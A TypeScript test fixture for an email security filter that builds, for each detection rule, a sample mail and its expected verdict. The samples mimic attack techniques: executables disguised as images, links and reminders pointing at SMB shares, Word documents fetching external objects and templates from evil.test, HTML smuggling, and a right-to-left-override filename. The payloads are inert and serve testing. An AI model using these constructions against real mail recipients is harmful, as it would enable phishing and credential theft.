/** For every shipped rule a mail in which it decides, as a client would send it. */
import { createHash } from 'node:crypto'
import { createRequire } from 'node:module'
import { testStrings } from '../../src/facts/index.ts'
import { inDocx, inZip } from '../archive/hide.ts'
import { makeCompound } from '../archive/make-compound.ts'
import { lzh } from '../archive/make-lzh.ts'
import { msgWithReminder } from '../archive/make-reminder.ts'
import { makeZip } from '../archive/make-zip.ts'
import { inWorkshop } from '../archive/tools.ts'
import { BUILT_SAMPLES } from '../facts/type/samples/index.ts'
import { attachmentPart, eicar, type MailAttachment, mail, multipart } from '../postfix/mail.ts'

const office: { encrypt(input: Buffer, options: { readonly password: string }): Buffer } = createRequire(
  import.meta.url,
)('officecrypto-tool')

/** A rule, the mail in which it decides, what Postfix says, and whether the mail is marked. */
export interface RuleMail {
  readonly rule: string
  readonly message: Buffer
  readonly verdict: 'bad' | 'suspicious' | 'good' | 'ignored' | 'unknown'
}

/** What the analyzers of the test say of some bytes; the sandbox gives all others 3, the antivirus finds nothing in them. */
export interface Answers {
  readonly sandbox: Readonly<Record<string, { readonly score: number }>>
  readonly av: Readonly<Record<string, { readonly score: number; readonly findings: readonly string[] }>>
}

/** A sample of this type; each with other bytes, so that answers are for one mail alone. */
function sample(type: string, index = 0): Buffer {
  const found = BUILT_SAMPLES.find((one) => one.type === type)?.genuine[index]
  if (!found) throw new Error(`there is no sample of ${type}`)
  return found
}

const EXE = 'application/vnd.microsoft.portable-executable'
const exe = sample(EXE)
const exeOfFinding = Buffer.concat([exe, Buffer.from('found')])
const exeOfSandbox = Buffer.concat([exe, Buffer.from('ran')])
const ACCESS = 'application/vnd.ms-access'
const harmlessDatabase = sample(ACCESS, 1)

/** What the test's analyzers are told to answer. */
export function answers(): Answers {
  return {
    sandbox: { [sha256(exeOfSandbox)]: { score: 9 }, [sha256(harmlessDatabase)]: { score: 0 } },
    av: { [sha256(exeOfFinding)]: { score: 10, findings: ['Win.Test'] } },
  }
}

function sha256(bytes: Buffer): string {
  return createHash('sha256').update(bytes).digest('hex')
}

/** A mail with one attachment. */
function attached(name: string, content: Buffer | string, more: Partial<MailAttachment> = {}, text?: string): Buffer {
  return mail({ attachments: [{ name, content, ...more }], ...(text !== undefined && { text }) })
}

/** A mail whose text is a page. */
function page(body: string): Buffer {
  const html = attachmentPart({
    type: 'text/html; charset=utf-8',
    disposition: 'none',
    encoding: 'quoted-printable',
    content: `<html><body>${body}</body></html>`,
  })
  const text = attachmentPart({ type: 'text/plain', disposition: 'none', encoding: '7bit', content: 'Hello.' })
  const head = [
    'From: a@src.test',
    'To: b@dst.test',
    'Subject: page',
    'MIME-Version: 1.0',
    'Content-Type: multipart/alternative; boundary="p"',
  ]
  return Buffer.concat([Buffer.from(`${head.join('\r\n')}\r\n\r\n`), multipart('p', [text, html])])
}

const RELS = 'http://schemas.openxmlformats.org/package/2006/relationships'
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

/** A Word document with these further parts. */
function docx(parts: Readonly<Record<string, Buffer | string>>): Buffer {
  const main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
  const own = {
    '[Content_Types].xml': `<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`,
    'word/document.xml': '<?xml version="1.0"?><w:document/>',
  }
  return makeZip(Object.entries({ ...own, ...parts }).map(([name, data]) => ({ name, data: Buffer.from(data) })))
}

/** The relationships of a document with one that leads out of it. */
function relationship(type: string, target: string): string {
  const one = `<Relationship Id="r1" Type="${REL}/${type}" Target="${target}" TargetMode="External"/>`
  return `<?xml version="1.0"?><Relationships xmlns="${RELS}">${one}</Relationships>`
}

const literal = Buffer.from('minutes of the meeting, at length: '.repeat(20)).toString('base64')
const DRAWING = '<svg xmlns="http://www.w3.org/2000/svg"><script>welcome</script></svg>'

/** A disc with one text. */
export function diskImage(): Promise<Buffer> {
  return inWorkshop(({ put, run, read }) => {
    put('disc/a.txt', Buffer.from('agenda'))
    run('genisoimage', '-quiet', '-J', '-R', '-o', 'out.iso', 'disc')
    return read('out.iso')
  })
}

/** An Outlook message whose text is a page. */
function outlookMessage(html: string): Buffer {
  return makeCompound({
    '/__properties_version1.0': Buffer.alloc(32),
    '/__nameid_version1.0/__substg1.0_00020102': Buffer.alloc(16),
    '/__substg1.0_10130102': Buffer.from(html),
  })
}

/** All of them, in the order of the rules. */
export async function ruleMails(): Promise<readonly RuleMail[]> {
  const { bad, suspicious, unknown, good, ignored } = table
  return [
    bad('eicar-test-file', attached('photo.png', eicar(), { type: 'image/png' })),
    bad('peekaboo-test-file', attached('a.txt', testStrings.peekaboo)),
    bad('sandbox-malicious', attached('setup.exe', exeOfSandbox)),
    good('sandbox-harmless', attached('stock.mdb', harmlessDatabase)),
    bad('program-disguised', attached('photo.png', exe, { type: 'image/png' })),
    bad('program-misnamed', attached('photo.png.exe', exe)),
    bad('program-in-document', attached('letter.docx', inDocx('tool.exe', exe))),
    bad('script-for-windows', attached('readme.txt', sample('application/hta'))),
    bad('script-by-name', attached('notes.ps1', 'Get-ChildItem')),
    bad(
      'page-offers-program',
      attached('page.html', `<script>var d = atob("${literal}"); a.download = "invoice.exe"</script>`),
    ),
    suspicious('program', attached('setup.exe', exe)),
    suspicious('script', attached('notes.py', sample('text/x-python', 1))),
    suspicious('program-by-name', attached('tool.exe', 'nothing but a text, and a long one')),
    bad('reminder-from-share', attached('meeting.msg', msgWithReminder('\\\\192.0.2.1\\s\\a.wav'))),
    bad('link-moniker', page('<a href="file:///\\\\192.0.2.1\\s\\a.rtf!x">x</a>')),
    bad('link-handler', page('<a href="search-ms:query=x&amp;crumb=location:x">x</a>')),
    suspicious('link-to-program', page('<a href="ms-word:ofe|u|https://x.test/a.docx">x</a>')),
    bad('picture-from-share', page('<img src="\\\\192.0.2.1\\s\\a.png">')),
    bad('shortcut-to-share', attached('a.url', '[InternetShortcut]\r\nURL=file://192.0.2.1/s/a.exe\r\n')),
    bad(
      'document-fetches-object',
      attached(
        'a.docx',
        docx({ 'word/_rels/document.xml.rels': relationship('oleObject', 'http://evil.test/a.html!') }),
      ),
    ),
    suspicious(
      'document-fetches-template',
      attached(
        'a.docx',
        docx({ 'word/_rels/settings.xml.rels': relationship('attachedTemplate', 'https://evil.test/t.dotm') }),
      ),
    ),
    suspicious('link-to-share', page('<a href="file://files.evil.test/s/a.docx">x</a>')),
    suspicious('links-too-many', page('<a href=x>'.repeat(50_001))),
    bad('shortcut-attack', attached('offer.pdf', sample('application/x-ms-shortcut'), { type: 'application/pdf' })),
    suspicious('shortcut', attached('a.url', sample('application/x-mswinurl'))),
    suspicious('message-ambiguous', attached('a.txt', 'agenda', { headers: ['Content-Transfer-Encoding: 7bit'] })),
    suspicious('html-smuggling', page(`<script>var b = new Blob([atob("${literal}")])</script>`)),
    suspicious(
      'html-attachment',
      attached('page.html', '<html><body><script>location="https://x.test"</script></body></html>'),
    ),
    suspicious('svg-attachment', attached('logo.svg', '<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>')),
    suspicious('page-script', attached('a.docx', docx({ 'word/media/image1.svg': DRAWING }))),
    suspicious('disk-image', attached('photos.iso', await diskImage())),
    suspicious('rare-container', attached('a.lzh', lzh('a.txt', Buffer.from('agenda')))),
    suspicious(
      'container-odd',
      attached(
        'a.zip',
        makeZip([
          { name: 'a.txt', data: Buffer.from('agenda') },
          { name: 'b.txt', data: Buffer.from('minutes'), isUnlisted: true },
        ]),
      ),
    ),
    suspicious('office-macros', attached('letter.doc', sample('application/x-vba-project'))),
    suspicious('office-notebook', attached('notes.one', sample('application/onenote'))),
    suspicious('office-package', attached('figures.xls', sample('application/x-ole-package'))),
    suspicious('office-database', attached('stock.mdb', sample(ACCESS))),
    unknown(
      'encrypted-document',
      attached('a.docx', office.encrypt(docx({}), { password: 'Sommer-2026' }), {}, 'Das Passwort lautet: Sommer-2026'),
    ),
    suspicious('anomaly', attached('photo=?utf-8?q?=E2=80=AE?=txt.txt', 'agenda')),
    ignored('empty', attached('a.txt', '')),
    ignored('harmless', attached('notes.txt', 'agenda, minutes and so on')),
    ignored('container', attached('notes.zip', await inZip('notes.txt', Buffer.from('agenda')))),
    ignored('text-of-message', attached('hello.msg', outlookMessage('<html><body><p>Hello</p></body></html>'))),
    ignored(
      'part-of-document',
      attached(
        'a.docx',
        docx({ 'word/printerSettings/printerSettings1.bin': Buffer.from([0, 7, 1, 255, 3, 0, 9, 200, 17, 0]) }),
      ),
    ),
    unknown('final-unknown', attached('data.bin', Buffer.from([0, 7, 1, 255, 3, 0, 9, 200, 17, 0]))),
    bad('av-found', attached('tool.bin', exeOfFinding)),
  ]
}

type Row = (rule: string, message: Buffer) => RuleMail
const row =
  (verdict: RuleMail['verdict']): Row =>
  (rule, message) => ({ rule, message, verdict })
const table = {
  bad: row('bad'),
  suspicious: row('suspicious'),
  unknown: row('unknown'),
  good: row('good'),
  ignored: row('ignored'),
}
